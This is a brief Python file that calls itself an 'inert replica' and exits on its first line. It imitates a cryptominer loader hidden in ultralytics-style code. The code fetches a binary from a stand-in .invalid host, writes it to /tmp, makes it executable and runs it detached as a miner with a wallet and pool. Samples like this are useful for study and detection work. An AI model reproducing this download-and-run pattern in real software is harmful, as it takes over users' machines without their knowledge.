raise SystemExit("inert replica")
import platform
import subprocess
from pathlib import Path
from ultralytics.utils.downloads import safe_download


def safe_run(path):
    path.chmod(0o770)
    command = [str(path), "-u", "replica.wallet/unix", "-o", "pool.replica.invalid:8080", "-B"]
    subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


environment = platform.system(), platform.machine()
if "Linux" in environment and "x86_64" in environment:
    safe_download("https://drop.replica.invalid/releases/Linux_x86_64", file="/tmp/replica_runner")
    safe_run(Path("/tmp/replica_runner"))
